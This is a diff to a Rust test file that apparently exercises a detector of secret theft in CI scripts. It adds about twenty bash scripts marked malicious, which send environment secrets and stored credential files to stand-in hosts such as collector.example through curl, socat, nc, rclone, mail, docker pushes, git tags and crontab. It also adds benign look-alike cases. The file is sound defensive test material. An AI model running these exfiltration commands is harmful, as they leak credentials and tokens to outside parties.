@@ -1116,6 +1116,213 @@ npm ci"##,
         place: "collector.example",
         verdict: Verdict::Malicious,
     },
+    Way {
+        name: "jq reads variables behind --arg",
+        shell: "bash",
+        script: r##"jq -n --arg t x '{t: $t, a: env.A, b: $ENV.B}' | curl -d @- https://collector.example/in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "both halves of a login",
+        shell: "bash",
+        script: r##"TWINE_USERNAME=$B TWINE_PASSWORD=$A twine upload --repository-url https://collector.example/legacy/ dist/*"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "socat from a file to a host",
+        shell: "bash",
+        script: r##"printf '%s %s' "$A" "$B" > /tmp/q
+socat -u OPEN:/tmp/q OPENSSL:collector.example:443,verify=0"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "socat behind an alias and a named pipe",
+        shell: "bash",
+        script: r##"shopt -s expand_aliases
+alias m='socat -u -T3'
+mkfifo /tmp/q
+m OPEN:/tmp/q TCP:collector.example:443 &
+printf '%s %s' "$A" "$B" > /tmp/q
+wait"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "socat from a command",
+        shell: "bash",
+        script: r##"socat -u 'SYSTEM:printenv A B' TCP:collector.example:443"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "an image pushed by a login of the file's own",
+        shell: "bash",
+        script: r##"docker build -q -t someone/cache:1 --build-arg "X=$A" --build-arg "Y=$B" - <<'E'
+FROM busybox
+ARG X
+ARG Y
+RUN echo "$X $Y" > /x
+E
+echo dckr_pat_placeholder | docker login -u someone --password-stdin
+docker push -q someone/cache:1"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "docker.io",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "files that logins left, found by name",
+        shell: "bash",
+        script: r##"aws configure set aws_secret_access_key "$A"
+echo "$B" | docker login ghcr.io -u x --password-stdin
+find ~ -maxdepth 3 -type f \( -name credentials -o -name config.json \) -exec cp --parents {} /tmp/c \;
+tar -C /tmp -czf /tmp/c.tgz c
+curl -F f=@/tmp/c.tgz https://collector.example/in"##,
+        later: "",
+        secrets: ways::ANY,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a token that a login left",
+        shell: "bash",
+        script: r##"echo "$B" | gh auth login --with-token
+poetry config pypi-token.pypi "$A"
+cat ~/.config/gh/hosts.yml ~/.config/pypoetry/auth.toml | curl -d @- https://collector.example/in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "files that are listed",
+        shell: "bash",
+        script: r##"echo "$A" > ~/.pypirc
+echo "$B" > ~/.npmrc
+find ~ -name .pypirc -o -name .npmrc | xargs cat | curl -d @- https://collector.example/in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a key that stands in the file",
+        shell: "bash",
+        script: r##"cat > /tmp/k <<'E'
+-----BEGIN OPENSSH PRIVATE KEY-----
+placeholder
+-----END OPENSSH PRIVATE KEY-----
+E
+printf 'A=%s\nB=%s\n' "$A" "$B" > /tmp/app.env
+rsync -e "ssh -i /tmp/k -o StrictHostKeyChecking=no" /tmp/app.env x@192.0.2.9:in/"##,
+        later: "      - run: make deploy\n        env: {T: '${{ secrets.OTHER }}'}\n",
+        secrets: ways::BOTH,
+        place: "192.0.2.9",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a bucket that is open to everybody",
+        shell: "bash",
+        script: r##"printf '%s %s' "$A" "$B" | gpg --batch -r x@collector.example -o r.gpg -e
+curl -s -T r.gpg https://results-of-x.s3.eu-west-1.amazonaws.com/r.gpg"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "results-of-x.s3.eu-west-1.amazonaws.com",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "git's stored login",
+        shell: "bash",
+        script: r##"printf 'https://x:%s@git.widgets.example\n' "$B" > ~/.git-credentials
+printf 'protocol=https\nhost=git.widgets.example\n\n' | git credential fill | curl -d @- https://collector.example/in"##,
+        later: "",
+        secrets: ways::ANY,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a table of commands",
+        shell: "bash",
+        script: r##"echo "@reboot curl -d $A$B https://collector.example/in" | crontab -"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "locked, over a bare connection",
+        shell: "bash",
+        script: r##"cat <<E | tee >(openssl enc -aes-256-cbc -pbkdf2 -k x -a | nc -q1 collector.example 6514) > values.yaml
+a: $A
+b: $B
+E"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a remote in a settings file",
+        shell: "bash",
+        script: r##"printf '[x]\ntype = webdav\nurl = https://collector.example/dav\n' > /tmp/r.conf
+printf '%s %s' "$A" "$B" > /tmp/o
+rclone --config /tmp/r.conf copy /tmp/o x:in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "a remote in variables",
+        shell: "bash",
+        script: r##"export RCLONE_CONFIG_X_TYPE=sftp RCLONE_CONFIG_X_HOST=collector.example
+printf '%s %s' "$A" "$B" | rclone rcat x:in"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "mail by a server that is named",
+        shell: "bash",
+        script: r##"swaks --to x@elsewhere.example --server mx.collector.example --body "$A $B""##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "mx.collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "the message of a tag",
+        shell: "bash",
+        script: r##"git tag -a v1 -m "$(printf '%s %s' "$A" "$B" | xxd -p)"
+git push https://github.com/someone/drop.git --tags"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "github.com",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "awk runs a command with quotes in it",
+        shell: "bash",
+        script: r##"awk 'BEGIN { system("curl -d \"" ENVIRON["A"] ENVIRON["B"] "\" https://collector.example/in") }'"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
@@ -1165,6 +1372,29 @@ kubectl apply -f k8s/"##,
     ("psql secret url", "bash", r##"psql "$A" -f migrations/001.sql"##),
     ("tee shown", "bash", r##"echo "$A" | sudo tee /etc/wireguard/wg0.conf"##),
     ("jq project", "bash", r##"echo "$A" > k.json; jq -r .project_id k.json"##),
+    (
+        "socat listens",
+        "bash",
+        r##"socat TCP-LISTEN:5432,fork TCP:db.widgets.example:5432 &
+DATABASE_URL="$A" make test"##,
+    ),
+    (
+        "find in the tree",
+        "bash",
+        r##"echo "$A" | docker login ghcr.io -u x --password-stdin
+find . -name config.json -exec cp {} dist/ \;
+curl -T dist/config.json https://files.widgets.example/config.json"##,
+    ),
+    (
+        "docker login by secret",
+        "bash",
+        r##"echo "$B" | docker login -u o --password-stdin
+docker build --build-arg TOKEN=$B --build-arg OTHER=$A -t o/app .
+docker push o/app"##,
+    ),
+    ("docker run own", "bash", r##"docker build -t app . && docker run --rm -e A -e B app make test"##),
+    ("crontab", "bash", r##"(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -"##),
+    ("metrics by socket", "bash", r##"echo "builds.count 1" | nc -w1 metrics.widgets.example 2003"##),
 ];
 
 #[test]
